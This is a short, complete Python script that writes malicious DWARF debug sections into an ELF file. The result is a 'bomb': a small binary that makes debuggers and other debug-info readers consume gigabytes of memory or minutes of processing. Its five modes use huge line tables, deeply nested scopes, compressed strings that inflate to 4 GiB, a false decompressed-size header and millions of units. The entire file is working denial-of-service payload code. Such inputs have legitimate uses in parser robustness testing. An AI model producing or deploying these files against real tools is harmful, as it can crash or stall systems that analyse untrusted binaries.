#!/usr/bin/env python3
"""dwarf_bomb.py KIND DIR BASE: writes the sections of debug information into DIR that make of the ELF file BASE a bomb:
a file of some hundred KiB for which a reader that believes it takes gigabytes, or minutes. Names of sections, one a
line, go to standard output; objcopy --add-section puts them in.

    lines    a line table of 64 million rows
    tree     scopes in scopes, 16 million deep
    inflate  names that inflate to 4 GiB
    claim    names that claim to inflate to 2^60 bytes, and do not
    units    two million units, each of which is to be looked at
"""
import os
import struct
import sys
import zlib

MIB = 1 << 20
BLOCK = 1 << 16


def code_of(path):
    """The address and length of the executable segment."""
    with open(path, "rb") as file:
        elf = file.read()
    table, = struct.unpack_from("<Q", elf, 32)
    size, count = struct.unpack_from("<HH", elf, 54)
    for i in range(count):
        kind, flags, _, vaddr, _, filesz = struct.unpack_from("<IIQQQQ", elf, table + i * size)
        if kind == 1 and flags & 1:
            return vaddr, filesz
    sys.exit("no code")


def squeezed(head, runs, tail=b""):
    """A .zdebug_ section: head, then the runs (bytes, length in all), then tail. Equal blocks are compressed once."""
    squeeze = zlib.compressobj(9)
    out = squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH)
    total, check = len(head) + len(tail), zlib.adler32(head)
    for byte, times in runs:
        block = byte * (BLOCK // len(byte))
        again = zlib.compressobj(9, wbits=-15)
        out += (again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)) * (times // BLOCK)
        total += times
        for _ in range(times // BLOCK):
            check = zlib.adler32(block, check)
    last = zlib.compressobj(9, wbits=-15)
    return b"ZLIB" + struct.pack(">Q", total) + out + last.compress(tail) + last.flush() + struct.pack(">I", zlib.adler32(tail, check))


def unit(vaddr, size, rest=b"", length=None):
    """DWARF 4: a unit of that code, with a line table at 0; `length`: of what follows the header."""
    die = b"\x01" + struct.pack("<QQI", vaddr, size, 0)
    body = struct.pack("<HIB", 4, 0, 8) + die
    return struct.pack("<I", len(body) + (len(rest) if length is None else length)) + body + rest


# 1: the unit (low_pc, high_pc, stmt_list), 2: a function, 3: a scope without attributes.
ABBREVIATIONS = bytes([1, 0x11, 1, 0x11, 1, 0x12, 7, 0x10, 0x17, 0, 0, 2, 0x2E, 1, 0x11, 1, 0x12, 7, 0, 0,
                       3, 0x0B, 1, 0, 0, 0])


def line_head(program_length):
    header = bytes([1, 1, 1, 0xFB, 14, 13, 0, 1, 1, 1, 1, 0, 0, 0, 1, 0, 0, 1]) + b"\0" + b"a.c\0\0\0\0" + b"\0"
    body = struct.pack("<HI", 4, len(header)) + header
    return struct.pack("<I", len(body) + program_length) + body


def lines(vaddr, size):
    start = b"\0\x09\x02" + struct.pack("<Q", vaddr)
    rows = 64 * MIB
    end = b"\x02" + b"\x7f" + b"\0\x01\x01"
    return {"info": unit(vaddr, size), "zline": squeezed(line_head(len(start) + rows + len(end)) + start, [(b"\x13", rows)], end)}


def tree(vaddr, size):
    deep = 16 * MIB
    function = b"\x02" + struct.pack("<QQ", vaddr, size)
    return {"zinfo": squeezed(unit(vaddr, size, function, len(function) + 2 * deep + 2), [(b"\x03", deep), (b"\0", deep)], b"\0\0")}


def inflate(vaddr, size):
    return {"info": unit(vaddr, size), "zstr": squeezed(b"", [(b"\0", 4096 * MIB)])}


def claim(vaddr, size):
    honest = squeezed(b"", [(b"\0", MIB)])
    return {"info": unit(vaddr, size), "zstr": honest[:4] + struct.pack(">Q", 1 << 60) + honest[12:]}


def units(vaddr, size):
    one = unit(vaddr, size)
    return {"zinfo": squeezed(b"", [(one, 2 * MIB * len(one))])}


def main():
    kind, folder, base = sys.argv[1:]
    makers = {"lines": lines, "tree": tree, "inflate": inflate, "claim": claim, "units": units}
    sections = {"abbrev": ABBREVIATIONS, **makers[kind](*code_of(base))}
    for name, data in sections.items():
        name = f".zdebug_{name[1:]}" if name[0] == "z" else f".debug_{name}"
        with open(os.path.join(folder, name), "wb") as file:
            file.write(data)
        print(name)


main()
